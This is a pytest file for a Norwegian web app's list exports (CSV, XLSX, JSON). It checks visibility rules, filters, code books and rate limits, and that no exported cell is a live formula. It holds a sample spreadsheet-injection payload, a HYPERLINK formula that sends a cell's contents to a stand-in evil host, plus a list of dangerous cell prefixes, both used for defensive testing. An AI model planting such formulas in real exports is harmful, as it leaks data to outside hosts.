"""Every list goes out as it is shown: XLSX, CSV, JSON with a code book, and nothing live in it."""

from __future__ import annotations

import csv
import io
import json
import re
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from typing import Any

import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy.orm import Session

from app.core.columns import Reach
from app.core.db import Database
from app.core.export_files import FORMATS, dead
from app.core.exports import Column
from app.initiatives import service as initiatives
from app.initiatives.exports import COLUMNS as OF_INITIATIVES
from app.insights import service as insights
from app.insights.exports import COLUMNS as OF_INSIGHTS
from app.insights.models import Consent, Method, SourceKind
from app.networks import downloads
from app.networks.models import Network, ResourceGroup
from app.practices import service as practices
from app.practices.exports import COLUMNS as OF_PRACTICES
from tests.architecture.records import actor
from tests.conftest import As
from tests.find import one

LISTS = {"innsikt": OF_INSIGHTS, "praksiser": OF_PRACTICES, "tiltak": OF_INITIATIVES}
FORMULA = '=HYPERLINK("http://ond.example?"&A1)'
LIVE = ("=", "+", "-", "@", "\t", "\r")


def fill(db: Session, title: str, reach: Reach, group: str = "asnes", text: str = "") -> None:
    """An insight, a practice and an initiative of the same name, and words in every text."""
    nett = one(db, Network, slug="nett").id or 0
    where = (nett, one(db, ResourceGroup, network_id=nett, slug=group).id or 0)
    leader = actor(db, "leader")
    told: dict[str, Any] = {"reach": reach, "consent": Consent.SPOKEN}
    insights.log(db, leader, *where, title, text=text, **told)
    done = practices.nominate(db, leader, *where, title, what=text, reach=reach)
    for name in ("who", "how", "why", "traits", "outcome", "comparison", "transferability"):
        setattr(done, name, text)
    tried = initiatives.start(db, leader, *where, title, purpose=text, reach=reach)
    for column in OF_INITIATIVES:
        if isinstance(getattr(tried, column.name, None), str) and column.name not in KEPT:
            setattr(tried, column.name, text)
    tried.core_parts = tried.adaptable_parts = [text] if text else []


KEPT = {"slug", "status", "reach", "depends_on_one", "office_size", "title"}


@pytest.fixture
def filled(database: Database) -> None:
    with database.write() as db:
        fill(db, "Åpen dør på Ærfugløya", Reach.PUBLIC, text="Blåbærøl – «ærlig»")
        fill(db, FORMULA, Reach.PUBLIC, text=FORMULA)
        fill(db, "For nettverket", Reach.NETWORK)
        fill(db, "For Grue", Reach.GROUP, "grue")


def csv_of(content: bytes) -> list[dict[str, str]]:
    """The file as a spreadsheet in Norwegian opens it."""
    assert content.startswith(b"\xef\xbb\xbf"), "without the mark Excel misreads the letters"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def titles(as_: As, who: str, path: str) -> set[str]:
    return {row["Tittel"] for row in csv_of(as_(who).http.get(path).content)}


@pytest.mark.usefixtures("filled")
@pytest.mark.parametrize("name", LISTS)
def test_who_sees_what_is_as_on_the_page(as_: As, name: str) -> None:
    public = {"Åpen dør på Ærfugløya", dead(FORMULA)}
    path = f"/nett/{name}.csv"
    assert titles(as_, "", path) == public
    assert titles(as_, "outsider", path) == public
    assert titles(as_, "member", path) == public | {"For nettverket"}
    assert titles(as_, "neighbour", path) == public | {"For nettverket", "For Grue"}
    assert titles(as_, "leader", path) == public | {"For nettverket", "For Grue"}


@pytest.mark.usefixtures("filled")
@pytest.mark.parametrize("name", LISTS)
def test_filters_and_words_hold_in_the_file(as_: As, name: str) -> None:
    assert titles(as_, "leader", f"/nett/{name}.csv?gruppe=grue") == {"For Grue"}
    assert titles(as_, "leader", f"/nett/{name}.csv?q=ærfugløya") == {"Åpen dør på Ærfugløya"}
    assert titles(as_, "leader", f"/nett/{name}.csv?q=finnesikke") == set()
    # The page leads there with its own filters.
    page = as_("leader").get(f"/nett/{name}?gruppe=grue")
    links = [str(a["href"]) for a in page.soup.select("a[download]")]
    assert f"/nett/{name}.xlsx?gruppe=grue" in links
    assert {link.split("?")[0] for link in links} == {f"/nett/{name}.{f}" for f in FORMATS}


@pytest.mark.usefixtures("filled")
@pytest.mark.parametrize("name", LISTS)
def test_xlsx_opens_with_norwegian_letters_a_code_book_and_no_formula(as_: As, name: str) -> None:
    content = as_("leader").http.get(f"/nett/{name}.xlsx").content
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    list_, code_book = book.sheet_names
    heads, *rows = book.get_sheet_by_name(list_).to_python()
    assert "Åpen dør på Ærfugløya" in {row[heads.index("Tittel")] for row in rows}
    assert any("Blåbærøl – «ærlig»" in row for row in rows)
    assert FORMULA in {cell for row in rows for cell in row}, "kept, as a text"
    assert not re.search(rb"<(f|hyperlinks?|definedName)[ >/]", unzipped(content))
    lines = book.get_sheet_by_name(code_book).to_python()
    explained = {row[0]: row for row in lines[: len(heads) + 1]}
    for head in heads:
        assert all(explained[head][:4]), f"{head} is not explained"


def unzipped(content: bytes) -> bytes:
    """All of the file's sheets."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        return b"".join(parts.read(n) for n in parts.namelist() if "sheet" in n.lower())


@pytest.mark.usefixtures("filled")
@pytest.mark.parametrize("name", LISTS)
def test_no_cell_of_a_csv_is_live(as_: As, name: str) -> None:
    for ending in ("csv", "kodebok.csv"):
        content = as_("leader").http.get(f"/nett/{name}.{ending}").content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(content), delimiter=";"):
            assert not [cell for cell in row if cell.startswith(LIVE)]
    assert f"'{FORMULA}" in {
        c
        for row in csv_of(as_("leader").http.get(f"/nett/{name}.csv").content)
        for c in row.values()
    }


@pytest.mark.usefixtures("filled")
@pytest.mark.parametrize("name", LISTS)
def test_json_holds_codes_and_explains_them(as_: As, name: str) -> None:
    told = json.loads(as_("leader").http.get(f"/nett/{name}.json").content)
    names = [c.name for c in LISTS[name]]
    assert [c["navn"] for c in told["kodebok"]] == names
    assert all(list(row) == names for row in told["rader"])
    reach = next(c for c in told["kodebok"] if c["navn"] == "reach")
    assert {row["reach"] for row in told["rader"]} <= set(reach["verdier"])
    assert told["om"]["Avgrenset til"] == "hele lista"


@pytest.mark.usefixtures("filled")
def test_what_is_for_the_network_is_left_out_for_visitors(as_: As) -> None:
    own = {c.label for c in OF_INSIGHTS if c.insiders}
    assert own == {"Hvem kan se det", "Slettes innen"}
    assert own <= set(csv_of(as_("member").http.get("/nett/innsikt.csv").content)[0])
    for who in ("", "outsider"):
        heads = set(csv_of(as_(who).http.get("/nett/innsikt.csv").content)[0])
        assert not own & heads


def test_of_the_young_only_the_week_is_told(as_: As, database: Database) -> None:
    with database.write() as db:
        nett = one(db, Network, slug="nett").id or 0
        group = one(db, ResourceGroup, slug="asnes").id or 0
        told: dict[str, Any] = {"source_kind": SourceKind.YOUTH, "method": Method.SURVEY}
        told |= {"heard_on": date(2026, 6, 1), "consent": Consent.SPOKEN, "reach": Reach.PUBLIC}
        insights.log(db, actor(db, "leader"), nett, group, "Ung", **told)
    text = as_().http.get("/nett/innsikt.json").text
    assert "uke 23, 2026" in text and "2026-06-01" not in text


def test_another_network_and_another_format_are_not_there(as_: As) -> None:
    for name in LISTS:
        assert as_("leader").http.get(f"/annet/{name}.csv").status_code == 404
        assert as_("leader").http.get(f"/nett/{name}.ods").status_code == 404


def test_a_list_that_is_too_long_says_so(
    as_: As, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(downloads, "BATCH", 2)
    with database.write() as db:
        for number in range(5):
            fill(db, f"Nummer {number}", Reach.PUBLIC)
    assert len(titles(as_, "", "/nett/tiltak.csv")) == 5, "a batch at a time, none lost"
    monkeypatch.setattr(downloads, "MOST_ROWS", 4)
    answer = as_().http.get("/nett/tiltak.csv")
    assert answer.status_code == 422 and "Avgrens" in answer.text


def test_others_at_it_are_waited_for_and_then_told(
    as_: As, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(downloads, "PATIENCE", 0.01)
    with downloads.AT_ONCE, downloads.AT_ONCE:
        assert as_().http.get("/nett/tiltak.csv").status_code == 429
    assert as_().http.get("/nett/tiltak.csv").status_code == 200


def test_no_sign_in_waits_for_those_who_download(
    together: As, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Anybody may ask for the library's file, as many times as they like."""
    monkeypatch.setattr(downloads, "PATIENCE", 5.0)
    browser = together()
    page = browser.get("/logg-inn")
    with ThreadPoolExecutor(8) as hands:
        downloads.AT_ONCE.acquire()
        downloads.AT_ONCE.acquire()
        asked = [hands.submit(browser.http.get, "/bibliotek.csv") for _ in range(6)]
        time.sleep(0.3)
        begun = time.monotonic()
        page.submit("/logg-inn", email="ingen@eksempel.no", password="feil passord her")
        took = time.monotonic() - begun
        downloads.AT_ONCE.release()
        downloads.AT_ONCE.release()
    assert took < 3 and {a.result().status_code for a in asked} == {200}


@pytest.mark.parametrize("columns", LISTS.values(), ids=LISTS)
def test_headings_and_names_are_told_apart(columns: tuple[Column, ...]) -> None:
    assert len({c.name for c in columns}) == len({c.label for c in columns}) == len(columns)


@pytest.mark.usefixtures("filled")
def test_the_library_goes_out_as_it_is_shown(as_: As) -> None:
    found = csv_of(as_().http.get("/bibliotek.csv?slag=tiltak").content)
    assert {row["Tittel"] for row in found} == {"Åpen dør på Ærfugløya", dead(FORMULA)}
    assert {(row["Slag"], row["Status"]) for row in found} == {("Tiltak", "Idé")}
    by_words = csv_of(as_("leader").http.get("/bibliotek.csv?q=ærfugløya").content)
    assert {row["Tittel"] for row in by_words} == {"Åpen dør på Ærfugløya"}
    assert "/bibliotek.csv?slag=tiltak" in as_().http.get("/bibliotek?slag=tiltak").text
